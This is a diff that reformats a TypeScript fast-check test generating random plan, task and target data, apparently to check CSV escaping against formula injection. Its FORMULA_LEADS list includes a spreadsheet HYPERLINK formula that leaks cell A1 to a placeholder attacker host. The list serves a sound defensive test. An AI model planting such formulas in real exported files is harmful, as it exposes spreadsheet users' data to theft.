@@ -20,7 +20,10 @@ const plainText = (min: number) => fc.string({ unit: fc.constantFrom(...CHARS, '
 // marks such text with a leading ' and the reader removes exactly that mark (OWASP CSV injection).
 const FORMULA_LEADS = ['=', '+', '-', '@', '\t', '\r', '=HYPERLINK("http://evil.example/?"&A1,"点击")', '-5', '+3', "'", "''", "'=", "''-", "'@", "'\t"];
 const text = (min = 0) =>
-  fc.oneof({ weight: 2, arbitrary: plainText(min) }, { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...FORMULA_LEADS), plainText(0)).map(([lead, rest]) => lead + rest) });
+  fc.oneof(
+    { weight: 2, arbitrary: plainText(min) },
+    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...FORMULA_LEADS), plainText(0)).map(([lead, rest]) => lead + rest) },
+  );
 /** Text that a spreadsheet would run as a formula, or that starts with ' before such a start. */
 const FORMULA_LIKE = /^'*[=+\-@\t\r]/;
 const nonEmpty = text(1).filter((s) => s.trim() !== '');
@@ -40,23 +43,41 @@ const extensions = fc.dictionary(fc.constantFrom('x-note', 'x-source', 'x-a'), f
 const quantity = fc.record({ measure: nonEmpty, unit: fc.constantFrom('万人', '亿元', '个', '%', '套') });
 const target = fc.oneof(
   fc.record({ kind: fc.constant('cumulative'), value: decimal(true) }).chain((t) => quantity.map((q) => ({ ...t, ...q }))),
-  fc.record({ kind: fc.constant('level'), value: decimal(), baseline: decimal() }).filter((t) => Number(t.value) !== Number(t.baseline)).chain((t) => quantity.map((q) => ({ ...t, ...q }))),
-  fc.oneof(
-    fc.record({ kind: fc.constant('rate'), value: decimal(), bound: fc.constantFrom('atLeast', 'atMost') }),
-    fc.record({ kind: fc.constant('rate'), value: decimal(), bound: fc.constant('about'), tolerance: decimal(true) }),
-  ).chain((t) => quantity.map((q) => ({ ...t, ...q }))),
+  fc
+    .record({ kind: fc.constant('level'), value: decimal(), baseline: decimal() })
+    .filter((t) => Number(t.value) !== Number(t.baseline))
+    .chain((t) => quantity.map((q) => ({ ...t, ...q }))),
+  fc
+    .oneof(
+      fc.record({ kind: fc.constant('rate'), value: decimal(), bound: fc.constantFrom('atLeast', 'atMost') }),
+      fc.record({ kind: fc.constant('rate'), value: decimal(), bound: fc.constant('about'), tolerance: decimal(true) }),
+    )
+    .chain((t) => quantity.map((q) => ({ ...t, ...q }))),
   fc.record({
     kind: fc.constant('milestones'),
-    milestones: fc.array(fc.record({ title: nonEmpty, due: dayOf2018, done: fc.option(dayOf2018, { nil: null }), weight: decimal(true) }), { minLength: 1, maxLength: 3 }),
+    milestones: fc.array(fc.record({ title: nonEmpty, due: dayOf2018, done: fc.option(dayOf2018, { nil: null }), weight: decimal(true) }), {
+      minLength: 1,
+      maxLength: 3,
+    }),
   }),
   fc.record({ kind: fc.constant('binary'), completedOn: fc.option(dayOf2018, { nil: null }) }),
 );
 
 const observations = (unit: string) =>
-  fc.uniqueArray(
-    fc.record({ asOf: dayOf2018, value: decimal(), unit: fc.option(fc.constant(unit === '万人' ? '人' : unit), { nil: undefined }), note: fc.option(nonEmpty, { nil: undefined }) }, { requiredKeys: ['asOf', 'value'] }),
-    { selector: (observation) => observation.asOf, minLength: 1, maxLength: 3 },
-  ).map((list) => [...list].sort((a, b) => (a.asOf < b.asOf ? -1 : 1)).map((o) => Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined))));
+  fc
+    .uniqueArray(
+      fc.record(
+        {
+          asOf: dayOf2018,
+          value: decimal(),
+          unit: fc.option(fc.constant(unit === '万人' ? '人' : unit), { nil: undefined }),
+          note: fc.option(nonEmpty, { nil: undefined }),
+        },
+        { requiredKeys: ['asOf', 'value'] },
+      ),
+      { selector: (observation) => observation.asOf, minLength: 1, maxLength: 3 },
+    )
+    .map((list) => [...list].sort((a, b) => (a.asOf < b.asOf ? -1 : 1)).map((o) => Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined))));
 
 const task = (categories: readonly string[]) =>
   fc
@@ -85,10 +106,12 @@ const task = (categories: readonly string[]) =>
       const trajectory =
         start < deadline
           ? fc.option(
-              fc.tuple(fc.uniqueArray(inWindow, { minLength: 1, maxLength: 3 }), fc.array(fc.integer({ min: 0, max: 100 }), { minLength: 3, maxLength: 3 })).map(([dates, values]) => {
-                const sortedValues = [...values].sort((a, b) => a - b);
-                return { trajectory: [...dates].sort().map((date, i) => ({ date, expected: String(sortedValues[i]! / 100) })) };
-              }),
+              fc
+                .tuple(fc.uniqueArray(inWindow, { minLength: 1, maxLength: 3 }), fc.array(fc.integer({ min: 0, max: 100 }), { minLength: 3, maxLength: 3 }))
+                .map(([dates, values]) => {
+                  const sortedValues = [...values].sort((a, b) => a - b);
+                  return { trajectory: [...dates].sort().map((date, i) => ({ date, expected: String(sortedValues[i]! / 100) })) };
+                }),
               { nil: undefined },
             )
           : fc.constant(undefined);
@@ -108,7 +131,9 @@ const planArbitrary: fc.Arbitrary<Plan> = fc
   .uniqueArray(id, { maxLength: 3 })
   .chain((categoryIds) =>
     fc.record({
-      categories: fc.option(fc.tuple(...categoryIds.map((categoryId) => fc.tuple(text(), extensions).map(([title, x]) => ({ ...x, id: categoryId, title })))), { nil: undefined }),
+      categories: fc.option(fc.tuple(...categoryIds.map((categoryId) => fc.tuple(text(), extensions).map(([title, x]) => ({ ...x, id: categoryId, title })))), {
+        nil: undefined,
+      }),
       tasks: fc.uniqueArray(id, { maxLength: 5 }).chain((ids) => fc.tuple(...ids.map((taskId) => task(categoryIds).map((t) => ({ ...t, id: taskId }))))),
       issuer: fc.option(nonEmpty, { nil: undefined }),
       asOf: fc.option(dayOf2018, { nil: undefined }),
